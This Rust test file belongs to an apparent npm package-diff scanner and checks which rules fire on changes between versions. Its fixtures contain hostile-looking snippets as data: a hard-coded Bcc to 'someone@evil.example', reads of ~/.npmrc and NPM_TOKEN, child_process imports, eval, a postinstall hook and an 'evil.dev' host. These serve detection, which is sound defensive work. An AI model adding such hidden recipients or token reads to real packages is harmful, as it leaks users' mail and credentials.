//! Two versions side by side: what each rule fires on, and what it leaves alone.

use super::{Action, Change, Growth, Outside, Rule, counterpart, diff};
use crate::archive::{File, Kind};
use crate::caps::Caps;
use crate::facts::{Class, Facts};
use crate::package::Package;

fn package(files: &[(&str, &str)]) -> Package {
    let manifest = ("package.json", r#"{"name": "@acme/widget-mcp"}"#);
    let file = |(path, text): &(&str, &str)| File {
        path: (*path).to_owned(),
        bytes: text.as_bytes().to_vec(),
        size: text.len() as u64,
        executable: false,
    };
    let files =
        std::iter::once(&manifest).filter(|_| !files.iter().any(|(path, _)| *path == "package.json")).chain(files);
    Package::of_files(Kind::NpmTarball, files.map(file).collect(), Vec::new(), 0)
}

fn changes(old: &[(&str, &str)], new: &[(&str, &str)]) -> Vec<Change> {
    let of = |files| Facts::of(&package(files), &Caps::default());
    diff(&of(old), &of(new), &Outside::default())
}

/// Rules and values of what is new in one file.
fn new_in(old: &str, new: &str) -> Vec<(&'static str, String, Action)> {
    let changes = changes(&[("index.js", old)], &[("index.js", new)]);
    changes.into_iter().map(|change| (change.rule.id(), change.value.clone(), change.action(true))).collect()
}

#[test]
fn each_rule_fires_on_its_own() {
    for (old, new, expected) in [
        ("", "m({ Bcc: x })", &[("D2", "bcc", Action::Hold)][..]),
        ("m({ to: y })", "m({ to: 'a@b.dev' })", &[("D1", "a@b.dev", Action::Hold), ("D3", "a@b.dev", Action::Hold)]),
        ("", "x = 'a@b.dev'", &[("D3", "a@b.dev", Action::Hold)]),
        ("", "require('child_process')", &[("D4", "child_process", Action::Block)]),
        ("", "require('fs')", &[("D4", "fs", Action::Hold)]),
        ("", "eval(x)", &[("D5", "eval", Action::Hold)]),
        ("", "x = 'https://evil.dev'", &[("D7", "evil.dev", Action::Show)]),
        ("", "x({ host: 'evil.dev' })", &[("D8", "evil.dev", Action::Hold)]),
        ("", "x = '~/.npmrc'", &[("D9", "npmrc", Action::Hold)]),
        ("", "x = process.env.NPM_TOKEN", &[("D10", "NPM_TOKEN", Action::Hold)]),
        ("", "x = process.env.LOG_LEVEL", &[("D10", "LOG_LEVEL", Action::Show)]),
        ("", "x = process.env.ACME_TOKEN", &[("D10", "ACME_TOKEN", Action::Show)]),
        ("", "x = 'git config core.hooksPath'", &[("behaviour", "hooks-path", Action::Hold)]),
        ("x = 1", "x = 2; y = function () { return x + 1 }", &[]),
    ] {
        let expected: Vec<_> =
            expected.iter().map(|(rule, value, action)| (*rule, (*value).to_owned(), *action)).collect();
        assert_eq!(new_in(old, new), expected, "{new}");
    }
}

#[test]
fn what_excuses_a_change_is_marked() {
    let found = changes(
        &[],
        &[("a.js", "x = ['https://docs.acme.dev', 'http://localhost:1', 'https://example.com', 'https://evil.dev']")],
    );
    let marks: Vec<_> = found.iter().map(|change| (change.value.as_str(), change.own, change.reserved)).collect();
    assert_eq!(
        marks,
        [
            ("docs.acme.dev", true, false),
            ("evil.dev", false, false),
            ("example.com", false, true),
            ("localhost", false, true)
        ]
    );
}

#[test]
fn a_class_that_is_there_hides_nothing() {
    let one = "import { exec } from 'child_process'; exec(a);";
    let two = format!("{one} exec(b);");
    let other = format!("{one} require('child_process').spawn(b);");
    let growth = |new: &str| -> Vec<_> {
        let found = changes(&[("a.js", one)], &[("a.js", new)]);
        found.iter().map(|change| (change.value.clone(), change.growth)).collect()
    };
    assert_eq!(growth(one), []);
    assert_eq!(growth(&two), [("child_process.exec".to_owned(), Growth::More { from: 1, to: 2 })]);
    assert!(growth(&other).contains(&("child_process.spawn".to_owned(), Growth::Value)));
}

#[test]
fn moving_and_renaming_changes_nothing() {
    let old = [("a.js", "import fs from 'fs'; fs.readFileSync(x); send({ bcc: 'a@b.dev' })")];
    let new = [("dist/b.js", "import*as e from'node:fs';e.readFileSync(t),n({bcc:`a@b.dev`})")];
    assert_eq!(changes(&old, &new), []);
}

#[test]
fn install_scripts_and_dependencies() {
    let old = [("package.json", r#"{"name": "x", "dependencies": {"a": "1"}}"#)];
    let new = [(
        "package.json",
        r#"{"name": "x", "dependencies": {"a": "2", "b": "1"}, "scripts": {"postinstall": "node x"}}"#,
    )];
    let found: Vec<_> = changes(&old, &new).iter().map(|change| (change.rule, change.value.clone())).collect();
    assert_eq!(found, [(Rule::InstallScript, "postinstall: node x".to_owned()), (Rule::Dependency, "b".to_owned())]);
    let facts = |files| Facts::of(&package(files), &Caps::default());
    let outside = Outside {
        trust_fell: Some("no attestation, the versions before had one".to_owned()),
        dependencies: [("b".to_owned(), "two days old".to_owned())].into(),
        is_patch: true,
    };
    let found = diff(&facts(&old), &facts(&new), &outside);
    assert_eq!(found.iter().find_map(|change| change.note.as_deref()), Some("two days old"));
    assert_eq!(found.last().map(|change| change.rule), Some(Rule::Trust));
}

#[test]
fn what_was_readable_and_is_not_is_a_change() {
    let minified = format!("var a=[{}];", "[1,2,3].map(b=>b+1),".repeat(400));
    let unread = |old: &[(&str, &str)], new: &[(&str, &str)]| -> Vec<(Class, String)> {
        let found = changes(old, new).into_iter().filter(|change| change.rule == Rule::Unread);
        found.filter_map(|change| Some((change.class?, change.value))).collect()
    };
    assert_eq!(unread(&[("a.js", "x = 1")], &[("a.js", &minified)]), [(Class::Minified, "a.js".to_owned())]);
    assert_eq!(unread(&[("a.js", &minified)], &[("a.js", &minified)]), []);
    assert_eq!(unread(&[("a.js", &minified)], &[("chunk-2.js", &minified)]), []);
    assert_eq!(unread(&[("a.js", "x = 1")], &[("a.js", "x = (")]), [(Class::Unparsable, "a.js".to_owned())]);
}

#[test]
fn both_lines_can_be_shown() {
    let old = "send({\n  From: from,\n  To: to,\n  Subject: subject,\n});\n";
    let new = "send({\n  From: from,\n  To: to,\n  Bcc: 'someone@evil.example',\n  Subject: subject,\n});\n";
    let (old, new) = (package(&[("index.js", old)]), package(&[("index.js", new)]));
    let caps = Caps::default();
    let found = diff(&Facts::of(&old, &caps), &Facts::of(&new, &caps), &Outside::default());
    let change = found.first().expect("a change");
    assert_eq!(change.to_string(), "constant recipient \"someone@evil.example\" under key Bcc, index.js:4");
    let site = change.new.as_ref().expect("its place");
    assert_eq!(site.excerpt, "Bcc: 'someone@evil.example',");
    let before = counterpart(&old, &new, site).expect("the line before");
    assert_eq!((before.line, before.excerpt.as_str()), (3, "To: to,"));
}
